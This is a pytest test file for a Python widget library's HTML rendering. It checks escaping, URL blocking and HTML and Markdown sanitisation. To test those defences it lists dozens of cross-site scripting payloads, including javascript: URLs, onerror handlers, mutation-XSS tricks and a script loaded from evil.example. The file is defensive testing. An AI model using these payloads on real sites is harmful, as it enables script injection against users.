"""Label, Heading, Text, Link, HTML, Markdown, Code: their HTML, their changes, and that no text becomes a script."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jibe_like.errors import PropertyTypeError, PropertyValueError, UnsafeValueError
from jibe_like.tree import safe
from jibe_like.tree.node import to_html
from jibe_like.tree.tree import Tree
from jibe_like.tree.widget import Widget
from jibe_like.widgets import HTML, Code, Div, Heading, Label, Link, Markdown, Text


def live(widget: Widget) -> Tree:
    """A tree with the widget in it, all of it known to the browser."""
    tree = Tree(Div([widget], identifier="topwidget"))
    tree.take()
    tree.changes.clear()
    return tree


def operations(tree: Tree) -> list[Any]:
    patch = tree.take()
    return patch.ops if patch is not None else []


@pytest.mark.parametrize(("kind", "tag"), [(Label, "div"), (Text, "p"), (Heading, "h2"), (Link, "a")])
def test_text_is_escaped(kind: Callable[..., Widget], tag: str) -> None:
    widget = kind('<script>alert(1)</script> & "more"', identifier="t")
    inner = "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;more&quot;"
    html = to_html(widget.node())
    assert html.startswith(f'<{tag} id="t" class="widget {type(widget).__name__.lower()}"')
    assert html.endswith(f">{inner}</{tag}>")


@pytest.mark.parametrize("kind", [Label, Text, Heading, Link])
def test_a_change_of_text_is_one_operation(kind: Callable[..., Any]) -> None:
    widget = kind("before", identifier="t")
    tree = live(widget)
    widget.value = "between"
    widget.value = "<after>"
    assert operations(tree) == [["text", "t", "<after>"]]
    widget.value = "<after>"
    assert operations(tree) == []


@pytest.mark.parametrize("kind", [Label, Text, Heading, Link, HTML, Markdown, Code])
@pytest.mark.parametrize("value", [5, None, b"bytes", ["a"]])
def test_a_value_that_is_no_text_is_refused(kind: Callable[..., Any], value: object) -> None:
    widget = kind("kept", identifier="t")
    with pytest.raises(PropertyTypeError, match=rf"{type(widget).__name__}\(t\)\.value must be str, not"):
        widget.value = value
    with pytest.raises(PropertyTypeError, match=rf"{type(widget).__name__}\(\)\.value must be str, not"):
        kind(value)
    assert widget.value == "kept"


@pytest.mark.parametrize("kind", [Label, Text, Heading, Link, HTML, Markdown, Code])
def test_nothing_is_a_text_too(kind: Callable[..., Any]) -> None:
    widget = kind(identifier="t")
    assert widget.value == ""
    assert 'id="t"' in to_html(widget.node())


# -- Heading


@pytest.mark.parametrize("level", [1, 2, 3, 4, 5, 6])
def test_heading_levels(level: int) -> None:
    assert to_html(Heading("Title", level, identifier="h").node()) == (
        f'<h{level} id="h" class="widget heading">Title</h{level}>'
    )


def test_a_change_of_level_renders_the_heading() -> None:
    heading = Heading("Title", identifier="h")
    tree = live(heading)
    heading.level = 3
    assert operations(tree) == [["render", "h", ["h3", {"id": "h", "class": "widget heading"}, "Title"]]]


@pytest.mark.parametrize("level", [0, 7, -1])
def test_there_are_six_levels(level: int) -> None:
    with pytest.raises(PropertyValueError, match=rf"Heading\(\)\.level.*from 1 to 6, not {level}"):
        Heading("Title", level)


def test_a_level_is_a_whole_number() -> None:
    with pytest.raises(PropertyTypeError, match=r"Heading\(\)\.level must be int, not str"):
        Heading("Title", "2")  # type: ignore[arg-type]


# -- Link


def test_link() -> None:
    assert to_html(Link("Docs", "/docs?a=1&b=2", identifier="a").node()) == (
        '<a id="a" class="widget link" href="/docs?a=1&amp;b=2" rel="noopener">Docs</a>'
    )
    assert to_html(Link("Docs", "https://example.org", new_tab=True, identifier="a").node()) == (
        '<a id="a" class="widget link" href="https://example.org" target="_blank" rel="noopener">Docs</a>'
    )


def test_link_changes() -> None:
    link = Link("Docs", "/docs", identifier="a")
    tree = live(link)
    link.url, link.new_tab = "mailto:a@example.org", True
    assert operations(tree) == [["attr", "a", "href", "mailto:a@example.org"], ["attr", "a", "target", "_blank"]]
    link.url, link.new_tab = "", False
    assert operations(tree) == [["attr", "a", "href", None], ["attr", "a", "target", None]]


def test_a_rel_of_ones_own_stays() -> None:
    assert Link("Docs", "/docs", attributes={"rel": "nofollow noopener"}).node()[1]["rel"] == "nofollow noopener"


SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript\x00:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
]


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_a_link_leads_nowhere_harmful(url: str) -> None:
    link = Link("Docs", "/docs", identifier="a")
    with pytest.raises(UnsafeValueError, match=r"Link\(a\)\.url"):
        link.url = url
    assert link.url == "/docs"
    with pytest.raises(UnsafeValueError, match="Link"):
        Link("Docs", url)


# -- HTML and Markdown


class _Audit(HTMLParser):
    """Collects whatever in some HTML could run, load code or take the page's own ids."""

    ALLOWED = re.compile(
        "a|b|i|s|p|div|br|hr|em|ol|ul|li|td|th|tr|h[1-6]|del|img|map|area|pre|sub|sup|abbr|code|span|table|tbody|thead|small"
        "|center|figure|strong|details|summary|blockquote"
    )

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not self.ALLOWED.fullmatch(tag):
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("id", "style", "srcdoc", "data-on", "srcset", "action", "formaction"):
                self.harm.append(f"{tag} {name}")
            if name in safe.URL_ATTRIBUTES:
                try:
                    safe.image_url(value or "") if tag == "img" else safe.url(value or "")
                except UnsafeValueError:
                    self.harm.append(f"{tag} {name}={value}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_decl(self, decl: str) -> None:
        self.harm.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.harm.append(f"<?{data}>")


def harm(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.harm


def shown(widget: Widget) -> str:
    """The HTML that the widget puts into the page, its own element aside."""
    return str(widget.node()[1].get("html", ""))


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(2)>x</a>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div id=topwidget data-on=click>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<p><b title='</p><script>alert(1)</script>'>x",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "</div></main><script>alert(1)</script>",
]


def test_the_audit_finds_what_was_let_through() -> None:
    found = [payload for payload in PAYLOADS if harm(shown(HTML(payload, trusted=True)))]
    assert len(found) > 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_is_sanitised(payload: str) -> None:
    assert harm(shown(HTML(payload))) == []
    assert harm(shown(HTML(f"<p>before</p>{payload}<b>after</b>"))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_shows_html_as_text(payload: str) -> None:
    for source in (payload, f"# before\n\n{payload}\n\n*after*", f"> {payload}", f"- {payload}", f"`{payload}`"):
        assert harm(shown(Markdown(source))) == []


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '![x](x "onerror=alert(1)")',
        '[x](x "\\" onclick=alert(1) \\"")',
        "[x]: javascript:alert(1)\n\n[x]",
        "![<img src=x onerror=alert(1)>](x)",
        "```<img src=x onerror=alert(1)>\ncode\n```",
        "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    ],
)
def test_markdown_has_no_harmful_links(source: str) -> None:
    assert harm(shown(Markdown(source))) == []


_PIECES = [*"<>/='\"`&; \n[]()!#ax", "script", "javascript:", "onerror=", "img", "style", "href="]


@given(st.lists(st.sampled_from(_PIECES)).map("".join))
def test_no_text_is_harmful(source: str) -> None:
    assert harm(shown(HTML(source))) == []
    assert harm(shown(Markdown(source))) == []


def test_what_is_harmless_stays() -> None:
    html = HTML('A <b>bold</b> <a href="/x" title="t">link</a><img src="data:image/png;base64,AAAA" alt="dot">')
    assert html.value == (
        'A <b>bold</b> <a href="/x" title="t" rel="noopener">link</a><img src="data:image/png;base64,AAAA" alt="dot">'
    )
    assert to_html(html.node()).endswith(f">{html.value}</div>")


def test_trusted_html_stays_as_it_is() -> None:
    own = '<form action="/search"><input name="q"></form>'
    html = HTML(own, trusted=True, identifier="t")
    assert html.trusted
    assert html.value == own
    assert to_html(html.node()) == f'<div id="t" class="widget html">{own}</div>'
    assert not HTML(own).trusted
    with pytest.raises(AttributeError):
        html.trusted = False  # type: ignore[misc]
    with pytest.raises(TypeError, match="trusted must be bool, not str"):
        HTML(own, trusted="yes")  # type: ignore[arg-type]


def test_a_change_of_html_is_sanitised() -> None:
    html = HTML("<b>a</b>", identifier="t")
    tree = live(html)
    html.value = "<i>b</i><script>alert(1)</script>"
    assert operations(tree) == [["html", "t", "<i>b</i>"]]
    html.value = "<i>b</i><img src=x onerror=alert(1)>"
    assert operations(tree) == [["html", "t", '<i>b</i><img src="x">']]


def test_markdown() -> None:
    source = "## Hello\n\nA *list* of ~~two~~ `one`:\n\n- one\n- [two](https://example.org)\n\n|a|b|\n|-|-|\n|1|2|"
    markdown = Markdown(source, identifier="m")
    assert markdown.value == source
    html = shown(markdown)
    for part in (
        "<h2>Hello</h2>",
        "<em>list</em>",
        "<s>two</s>",
        "<code>one</code>",
        "<li>one</li>",
        '<a href="https://example.org" rel="noopener">two</a>',
        "<td>2</td>",
    ):
        assert part in html
    assert to_html(markdown.node()) == f'<div id="m" class="widget markdown">{html}</div>'


def test_a_change_of_markdown_sends_its_html() -> None:
    markdown = Markdown("a", identifier="m")
    tree = live(markdown)
    markdown.value = "*b*"
    assert operations(tree) == [["html", "m", "<p><em>b</em></p>\n"]]


@pytest.mark.parametrize("kind", [HTML, Markdown])
def test_lone_surrogates_do_no_harm(kind: Callable[..., Widget]) -> None:
    assert "a?b" in shown(kind("a\ud800b"))


# -- Code


def test_code() -> None:
    code = Code("if a < b:\n    print('x')", language="python", identifier="c")
    assert to_html(code.node()) == (
        '<pre id="c" class="widget code" tabindex="0" role="group" aria-label="python code">'
        '<code id="c.text" class="language-python">if a &lt; b:\n    print(\'x\')</code></pre>'
    )


def test_code_without_a_language() -> None:
    assert to_html(Code("x", identifier="c").node()) == (
        '<pre id="c" class="widget code" tabindex="0" role="group" aria-label="code"><code id="c.text">x</code></pre>'
    )


def test_code_has_a_name_of_its_own() -> None:
    code = Code("x", language="python", label="The source", identifier="c")
    assert code.node()[1]["aria-label"] == "The source"


def test_a_language_cannot_leave_its_class() -> None:
    assert 'class="language-&quot;&gt;&lt;script&gt;"' in to_html(Code("x", language='"><script>').node())


def test_a_change_of_code_renders_its_text_alone() -> None:
    code = Code("a", identifier="c")
    tree = live(code)
    code.value = "b"
    assert operations(tree) == [["render", "c.text", ["code", {"id": "c.text"}, "b"]]]
    code.value, code.language = "c", "sql"
    [[kind, target, node]] = operations(tree)
    assert (kind, target) == ("render", "c")
    assert node[2:] == [["code", {"id": "c.text", "class": "language-sql"}, "c"]]
